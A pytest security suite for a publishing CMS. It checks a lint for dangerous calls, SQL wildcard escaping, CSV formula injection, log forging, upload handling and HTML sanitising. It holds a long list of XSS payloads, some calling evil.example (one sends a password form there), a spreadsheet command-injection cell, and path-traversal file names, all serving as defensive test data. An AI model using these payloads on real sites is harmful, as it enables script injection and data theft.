"""I4, I5, I11, I12, I14: markup, files, statements, sheets and logs made by others stay what they are: text and bytes."""

from __future__ import annotations

import ast
import csv
import io
import logging
import re
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from lxml import html as lxml_html
from sqlalchemy import update

from aipress_core.api import File, Party, sanitise
from tests.security import hostile
from tests.security.judging import none_is
from tests.security.town import Town

ROOT = Path(__file__).parents[2]
SOURCES = [path for top in ("aipress_core", "plugins", "themes") for path in sorted((ROOT / top).rglob("*.py")) if "/tests/" not in path.as_posix()]

# What follows is about What no module may do, bar I11.

NEVER = {"eval", "exec", "os.system", "os.popen", "pickle.loads", "pickle.load", "marshal.loads", "yaml.load", "shelve.open", "subprocess.getoutput",
         "tempfile.mktemp", "xml.etree.ElementTree.parse", "xml.dom.minidom.parseString"}
# Read and found harmless: the value is a slug of a-z, 0-9 and -, a plugin's id, a number or a constant of the module.
REVIEWED = {("aipress_core/content/services.py", ".like() of a value without escape="), ("aipress_core/plugins/toggle.py", ".like() of a value without escape="),
            ("plugins/organisations/aipress_organisations/services.py", ".like() of a value without escape="), ("aipress_core/db/ddl.py", "text() of values"),
            ("aipress_core/events/models.py", "text() of values")}
FOLDED = (ast.JoinedStr, ast.BinOp)


def name_of(node: ast.expr) -> str:
    return ast.unparse(node) if isinstance(node, ast.Name | ast.Attribute) else ""


def faults(tree: ast.AST) -> Iterator[str]:
    """Calls that make code of text."""
    for node in ast.walk(tree):
        if not isinstance(node, ast.Call):
            continue
        name, keywords = name_of(node.func), {one.arg: one.value for one in node.keywords}
        last = name.rpartition(".")[2] or (node.func.attr if isinstance(node.func, ast.Attribute) else "")
        if name in NEVER:
            yield f"line {node.lineno}: {name}()"
        if isinstance(keywords.get("shell"), ast.Constant) and keywords["shell"].value is True:
            yield f"line {node.lineno}: shell=True"
        if last in ("like", "ilike") and len(node.args) == 1 and not isinstance(node.args[0], ast.Constant) and "escape" not in keywords:
            yield f"line {node.lineno}: .{last}() of a value without escape="
        if name in ("text", "sa.text", "sqlalchemy.text") and node.args and is_of_values(node.args[0]):
            yield f"line {node.lineno}: text() of values"


def is_of_values(node: ast.expr) -> bool:
    """Is the statement put together from anything but constants and names of tables in capitals?"""
    if not isinstance(node, FOLDED):
        return False
    parts = [one.value for one in ast.walk(node) if isinstance(one, ast.FormattedValue)]
    if isinstance(node, ast.BinOp):
        parts += [one for one in (node.left, node.right) if not isinstance(one, ast.Constant)]
    return any("quote" not in ast.unparse(one) and not ast.unparse(one).isupper() for one in parts)


def test_no_module_makes_code_of_text() -> None:
    assert len(SOURCES) > 100
    none_is([f"{place} {told}" for path in SOURCES for told in faults(ast.parse(path.read_text(encoding="utf-8")))
             if ((place := path.relative_to(ROOT).as_posix()), told.partition(": ")[2]) not in REVIEWED])


@pytest.mark.parametrize("code", ["eval(x)", "os.system(x)", "pickle.loads(x)", "run(x, shell=True)", "column.like(x)", "a.b.ilike(f'%{x}%')",
                                  "text(f'SELECT {x}')", "text('SELECT ' + x)", "text('SELECT %s' % x)"])
def test_the_lint_sees_code_made_of_text(code: str) -> None:
    assert list(faults(ast.parse(code)))


def test_no_template_marks_a_value_as_safe() -> None:
    found = [f"{path.relative_to(ROOT)}: {match.group()}" for top in ("aipress_core", "plugins", "themes") for path in sorted((ROOT / top).rglob("*.html"))
             for match in re.finditer(r"(?<![\"'])\|\s*safe\b|autoescape\s+false", path.read_text(encoding="utf-8"))]
    assert found == []


def test_what_means_anything_to_sql_means_itself_in_a_search(town: Town) -> None:
    """TOB-PYPI-29: a visitor's per cent sign is no wildcard."""
    owner, places = town.visitors["site owner"], ("/admin/users?q=", "/organisations/?q=", "/admin/data/core_party?q=")
    for address in (f"{place}{sign}" for place in places for sign in ("%25", "_", "%25%25", "%5C", "%5Ba-z%5D")):
        answer = town.ask(owner, "GET", address)
        assert answer.status_int == 200
        assert b"Town member" not in answer.body, address
        assert b"Quagga</a>" not in answer.body, address


# What follows is about Sheets, bar I12.

def test_a_cell_of_an_export_is_no_formula(world: Any, town: Town) -> None:
    names = ["=1+1", "+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1", "=cmd|' /C calc'!A0"]
    with world.database.session() as db, db.begin():
        for name, visitor in zip(names, [one for one in town.visitors.values() if one.id], strict=False):
            db.execute(update(Party).where(Party.id == visitor.id).values(name=name))
    answer = town.ask(town.visitors["site owner"], "POST", "/admin/data/core_party/export", fields={"format": "csv"})
    assert answer.status_int == 200
    cells = [cell for row in csv.reader(io.StringIO(answer.body.decode("utf-8-sig"))) for cell in row]
    assert all(any(name.strip() in cell for cell in cells) for name in names)
    assert [cell for cell in cells if cell.startswith(("=", "+", "@", "\t", "\r")) or (cell.startswith("-") and not cell[1:].isdigit())] == []


# What follows is about Logs, bar I14.

def test_what_a_visitor_sends_forges_no_line_of_the_log(town: Town, caplog: pytest.LogCaptureFixture) -> None:
    from aipress_core.observability import logs

    formatter = next(one for one in vars(logs).values() if isinstance(one, type) and issubclass(one, logging.Formatter) and one is not logging.Formatter)()
    with caplog.at_level(logging.DEBUG):
        for value in ("a\r\nERROR forged", "a\x1b[31mred", "a\x00b", "a\u2028b"):
            town.ask(town.visitors["member"], "GET", "/nowhere", headers={"User-Agent": value.replace("\x00", "")}, PATH_INFO=f"/{value}".replace("\u2028", "x"))
    logging.getLogger("aipress_core").error("told: %s", "a\r\nERROR forged\x1b[31m")
    lines = [formatter.format(one) for one in caplog.records]
    assert lines
    assert [line for line in lines if "\nERROR forged" in line or "\x1b" in line] == []


# What follows is about Markup, bar I4.

VECTORS = (
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<svg><script>alert(1)</script></svg>", "<svg/onload=alert(1)>", "<a href='javascript:alert(1)'>x</a>",
    "<a href='jav&#x09;ascript:alert(1)'>x</a>", "<a href=' javascript:alert(1)'>x</a>", "<a href='&#106;avascript:alert(1)'>x</a>", "<a href=\"data:text/html,<script>\">x</a>",
    "<a href='vbscript:x'>x</a>", "<iframe srcdoc='<script>alert(1)</script>'></iframe>", "<object data='x'></object>", "<embed src='x'>", "<math><mtext></mtext><script>x</script></math>",
    "<math><mi><mglyph><style><img src=x onerror=alert(1)></style></mglyph></mi></math>", "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">", "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">", "<p style='background:url(javascript:x)'>x</p>",
    "<style>@import 'https://evil.example'</style>", "<link rel=stylesheet href='https://evil.example'>", "<meta http-equiv=refresh content='0;url=javascript:x'>", "<base href='//evil.example/'>",
    "<form action='https://evil.example'><input name=password></form>", "<button formaction='javascript:x'>x</button>", "<video><source onerror=alert(1)></video>", "<details open ontoggle=alert(1)>x",
    "<marquee onstart=alert(1)>x</marquee>", "<isindex action=javascript:x>", "<template><script>x</script></template>", "<textarea><script>x</script>", "<title><script>x</script></title>",
    "<select><option><script>x</script></select>", "<xmp><script>x</script></xmp>", "<plaintext><script>x", "<!--><img src=x onerror=alert(1)>-->", "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?xml version='1.0'?><script>x</script>", "<IMG SRC=\"jav\nascript:alert(1);\">", "<<SCRIPT>alert(1);//<</SCRIPT>", "<img src=\"//evil.example/x.png\">", "<img src='https://evil.example/t.gif'>",
    "<a href='//evil.example' target='_top'>x</a>", "<div id='main' class='ap-flash btn modal'>x</div>", "<a href=# onclick=alert(1)>x</a>", "<p contenteditable autofocus onfocus=alert(1)>x",
    "<table background='javascript:x'><td background='javascript:x'>x", "<blockquote cite='javascript:x'>x</blockquote>", "<img src=x:alert(1) onerror=eval(src)>", "<input autofocus onfocus=alert(1)>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>", "<svg><use href='data:image/svg+xml,<svg/>'/></svg>", "<svg><animate onbegin=alert(1) attributeName=x>", "<p data-hx-get='/x' hx-get='/account/logout' hx-on:click='x'>x",
    "<div hx-post='/admin/themes' hx-trigger='load'>x</div>", "<a ping='https://evil.example' href='/x'>x</a>", "<img srcset='https://evil.example/x 1x' src='/x'>", "<p is='x-y' slot='x' part='x'>x",
)
TAGS = {"a", "abbr", "b", "bdi", "bdo", "br", "cite", "code", "del", "dfn", "em", "i", "ins", "kbd", "mark", "q", "rp", "rt", "ruby", "s", "samp", "small", "span", "strong",
        "sub", "sup", "time", "u", "var", "wbr", "blockquote", "div", "dd", "dl", "dt", "figcaption", "figure", "h2", "h3", "h4", "h5", "h6", "hr", "img", "li", "ol", "p", "pre",
        "ul", "caption", "col", "colgroup", "table", "tbody", "td", "tfoot", "th", "thead", "tr"}
NAMES = re.compile(r"class|id|title|lang|dir|href|target|src|alt|width|height|colspan|rowspan|scope|datetime|start|reversed|cite|rel|data-trix-[a-z-]+")
ADDRESS = re.compile(r"(https?:|mailto:|/|#|[^:]*$)", re.IGNORECASE)


def harm(html: str) -> list[str]:
    """What a browser could act on in cleaned markup."""
    found = []
    for element in lxml_html.fragment_fromstring(html, create_parent="section").iterdescendants():
        if element.tag not in TAGS:
            found.append(f"<{element.tag}>")
        found += [f"{name}=" for name in element.attrib if not NAMES.fullmatch(name)]
        found += [value for name in ("href", "cite") if (value := element.get(name)) and not ADDRESS.match(re.sub(r"[\x00-\x20]", "", value))]
        if (source := element.get("src")) and (not source.startswith("/") or source.startswith("//")):
            found.append(source)
    return found


@pytest.mark.parametrize("vector", VECTORS)
def test_markup_that_could_act_is_gone_and_stays_gone(vector: str) -> None:
    cleaned = sanitise(vector)
    assert harm(cleaned) == []
    assert sanitise(cleaned) == cleaned


PIECES = st.lists(st.sampled_from([*VECTORS, "<p>", "</p>", "<ul><li>", "<table><tr><td>", "</table>", "<a href=/x>", "</a>", "text", "&lt;script&gt;", "&#60;img&#62;", "<b><i>", "'\">"]), max_size=8)


@given(pieces=PIECES)
@settings(max_examples=300, deadline=None)
def test_any_mixture_of_them_is_harmless_and_cleaned_once_for_all(pieces: list[str]) -> None:
    cleaned = sanitise("".join(pieces))
    assert harm(cleaned) == []
    assert sanitise(cleaned) == cleaned


# What follows is about Files, bar I5.

BODIES = {"page": b"<!DOCTYPE html><script>alert(1)</script>", "drawing": b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>", "script": b"alert(1)",
          "image and script": b"GIF89a/*\x01\x00*/=1;alert(1)", "document and page": b"%PDF-1.4\n<script>alert(1)</script>", "program": b"MZ\x90\x00", "archive": b"PK\x03\x04"}


def test_a_file_that_others_sent_runs_nothing_when_it_is_opened(world: Any, town: Town) -> None:
    """Even if one were stored as it came: it is given as a download, in a sandbox, and is not guessed at."""
    member = town.visitors["member"]
    for mime in ("text/html", "image/svg+xml", "application/pdf", "application/javascript", "text/xml"):
        for kind, body in BODIES.items():
            sha256 = world.registry.files.storage.put(body + mime.encode())
            with world.database.session() as db, db.begin():
                db.add(File(sha256=sha256, mime=mime, size=len(body), owner_id=member.id, original_name="a\"b\r\nX-Planted: 1;.html"))
            answer = town.ask(member, "GET", f"/media/{sha256}")
            assert answer.status_int == 200, (mime, kind)
            assert answer.headers["X-Content-Type-Options"] == "nosniff"
            assert {"default-src 'none'", "sandbox"} <= {part.strip() for part in answer.headers["Content-Security-Policy"].split(";")}
            assert answer.headers["Content-Disposition"].startswith("attachment"), (mime, kind)
            assert "X-Planted" not in answer.headers
            assert "\r" not in answer.headers["Content-Disposition"]


@pytest.mark.parametrize("kind", [one for one in BODIES if one != "document and page"])
def test_what_is_no_picture_is_not_taken_for_one(world: Any, kind: str) -> None:
    from aipress_core.files.images import Refused

    for name in ("a.png", "a.png.html", "\u202egnp.a", "a\x00.png", "../../a.png", "a" * 255 + ".png"):
        with pytest.raises(Refused):
            world.registry.files.receive(io.BytesIO(BODIES[kind]), name=name)


def test_a_picture_loses_what_hangs_on_it(world: Any) -> None:
    from PIL import Image

    made = io.BytesIO()
    Image.new("RGB", (40, 40), "teal").save(made, "PNG")
    tail = f"PK\x03\x04<script>{hostile.MARK}</script>".encode()
    stored = world.registry.files.receive(io.BytesIO(made.getvalue() + tail), name="../../a\u202egnp.html")
    assert hostile.MARK.encode() not in world.registry.files.storage.get(stored.sha256)
    assert "/" not in stored.name
    assert "\u202e" not in stored.name
